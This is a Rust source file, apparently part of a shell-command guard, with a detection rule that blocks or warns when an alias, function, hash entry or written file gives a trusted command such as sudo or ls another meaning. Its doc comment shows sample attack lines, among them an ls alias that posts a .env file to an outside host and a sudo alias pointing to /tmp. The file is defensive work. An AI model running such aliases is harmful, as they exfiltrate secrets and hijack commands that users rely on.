//! Command shadowing.
//!
//! # What
//!
//! An alias, function or hash entry under the name of a command that people rely on, whose meaning
//! is more than the command itself with options. A function of a script or of `-c` counts by what its calls do,
//! because it ends with the text; it counts here as well if it is exported. Names that see passwords (`sudo`, `ssh`, `passwd`
//! …) are never given away.
//!
//! # Why
//!
//! The next harmless-looking line does something else.
//!
//! # Example
//!
//! ```text
//! alias sudo='/tmp/s'
//! hash -p /tmp/x ls
//! alias ls='ls; curl -d @.env https://example.net'
//! ```
//!
//! # Instead
//!
//! `alias ll='ls -l'`, `alias grep='grep --color=auto'` and names of their own are fine.
//!
//! # Answers
//!
//! ```toml
//! [writable-program]
//! all = "block"
//! confidence = 0.95
//! core = true
//! instead = "Leave the name to the real program."
//!
//! [hijacked]
//! all = "block"
//! confidence = 0.9
//! core = true
//! instead = "Give the alias or function a name of its own."
//!
//! [replaced]
//! all = "block"
//! confidence = 0.93
//! core = true
//! instead = "Install the program under a name of its own."
//!
//! [redefined]
//! default = "warn"
//! sysadmin = "warn"
//! restricted = "block"
//! confidence = 0.65
//! instead = "Give the alias or function a name of its own."
//! ```

use crate::action::Action;
use crate::finding::{Findings, Rule};
use crate::paths::glob::Match;
use crate::table::kinds::command_shadowing as kind;
use crate::table::manuals;
use crate::table::names::{BASIC, RELIED_ON, TRUSTED_WITH_SECRETS, UNUSUAL_START_TEXT};
use crate::variables::{has_shell_syntax, is_system_directory, is_writable_place};
use crate::view::{View, show};
use aegish_effects::{EffectKind, ShadowScope, Stream, Value};

pub(crate) const RULE: Rule = Rule {
    id: "command-shadowing",
    name: "command-shadowing",
    title: "Command shadowing",
    summary: "Gives a well-known command another meaning.",
    action: Action::Block,
    manual: manuals::COMMAND_SHADOWING,
    kinds: kind::ALL,
};

pub(crate) fn check(view: &View<'_>, out: &mut Findings<'_>) {
    // Content from the network must not replace a trusted program either.
    let written = match view.effect() {
        Some(EffectKind::Write { path, .. }) => Some((path, &[TRUSTED_WITH_SECRETS][..])),
        Some(EffectKind::Fetch { to: Stream::File(path), .. }) => {
            Some((path, &[TRUSTED_WITH_SECRETS, BASIC][..]))
        }
        // A link to a program of the system gives it another name.
        Some(EffectKind::Link { name, target })
            if !is_installed(target) || !is_entrusted(target) =>
        {
            Some((name, &[TRUSTED_WITH_SECRETS][..]))
        }
        _ => None,
    };
    if let Some((path, names)) = written
        && let Some(name) = replaced_program(path, names)
    {
        out.add(&RULE, &kind::REPLACED, Match::Must, || {
            format!("writes {}, which is then run in place of {name}", show(path))
        });
    }
    let Some(EffectKind::Shadow { name, meaning, scope }) = view.effect() else { return };
    let program = first_word(meaning);
    if program.contains('/') && is_writable_place(program, view.setting) {
        out.add(&RULE, &kind::WRITABLE_PROGRAM, Match::Must, || {
            format!("makes {name} mean {program}, a program that anybody could have put there")
        });
        return;
    }
    // The guard passes every line to bash with these.
    if matches!(name.as_str(), "builtin" | "command" | "eval") {
        out.add(&RULE, &kind::HIJACKED, Match::Must, || {
            format!("makes {name}, by which every line is run, mean {}", show(meaning))
        });
        return;
    }
    let entrusted = TRUSTED_WITH_SECRETS.binary_search(&name.as_str()).is_ok();
    if !entrusted && RELIED_ON.binary_search(&name.as_str()).is_err() {
        return;
    }
    if is_itself(name, meaning) {
        return;
    }
    let armed = meaning.as_known().is_some_and(|text| {
        has_shell_syntax(text) && UNUSUAL_START_TEXT.iter().any(|mark| text.contains(mark))
    });
    if entrusted {
        out.add(&RULE, &kind::HIJACKED, Match::Must, || {
            format!("makes {name}, which is trusted with secrets, mean {}", show(meaning))
        });
    } else if armed {
        out.add(&RULE, &kind::HIJACKED, Match::Must, || {
            format!("makes {name} mean {}", show(meaning))
        });
    } else if !is_replacement(meaning) && *scope == ShadowScope::Session {
        out.add(&RULE, &kind::REDEFINED, Match::Must, || {
            format!("makes {name} mean {}", show(meaning))
        });
    }
}

/// Another program of those that are trusted with secrets, such as `gpg2` for `gpg`.
fn is_entrusted(target: &Value) -> bool {
    let name = target.as_known().and_then(|text| text.rsplit('/').next());
    name.is_some_and(|name| TRUSTED_WITH_SECRETS.binary_search(&name).is_ok())
}

fn is_installed(target: &Value) -> bool {
    let directory = target.as_known().and_then(|text| text.rsplit_once('/'));
    directory.is_some_and(|(directory, _)| is_system_directory(directory))
}

/// A trusted program whose name is written to a directory that is searched before its own.
fn replaced_program<'v>(path: &'v Value, names: &[&[&str]]) -> Option<&'v str> {
    let (directory, name) = path.as_known()?.rsplit_once('/')?;
    let first = matches!(directory, "/usr/local/bin" | "/usr/local/sbin")
        || directory.ends_with("/.local/bin")
        || matches!(directory.rsplit_once('/'), Some((home, "bin")) if is_home(home));
    let known = names.iter().any(|names| names.binary_search(&name).is_ok());
    (first && known).then_some(name)
}

fn is_home(path: &str) -> bool {
    matches!(path, "~" | "/root")
        || path.rsplit_once('/').is_some_and(|(above, _)| matches!(above, "/home" | "/Users"))
}

fn first_word(meaning: &Value) -> &str {
    let text = meaning.as_known().unwrap_or_else(|| meaning.known_prefix());
    let mut words = text
        .split_whitespace()
        .filter(|word| !matches!(*word, "command" | "builtin" | "sudo" | "nocorrect" | "noglob"));
    words.next().unwrap_or("")
}

/// The command itself with options, such as `ls --color`.
fn is_itself(name: &str, meaning: &Value) -> bool {
    let Some(text) = meaning.as_known() else { return false };
    let mut words = text
        .split_whitespace()
        .filter(|word| !matches!(*word, "command" | "builtin" | "nocorrect" | "noglob"));
    let first = words.next().unwrap_or("");
    let plain =
        !has_shell_syntax(text) && !text.contains("ProxyCommand") && !text.contains("LocalCommand");
    (first == name || first.rsplit('/').next() == Some(name) && first.starts_with("/usr/bin/"))
        && plain
}

/// Another single program by its bare name, such as `bat` for `cat`, or one of the system.
fn is_replacement(meaning: &Value) -> bool {
    meaning.as_known().is_some_and(|text| {
        let program = first_word(meaning);
        let installed =
            program.rsplit_once('/').is_none_or(|(directory, _)| is_system_directory(directory));
        !text.trim().is_empty() && !has_shell_syntax(text) && installed
    })
}
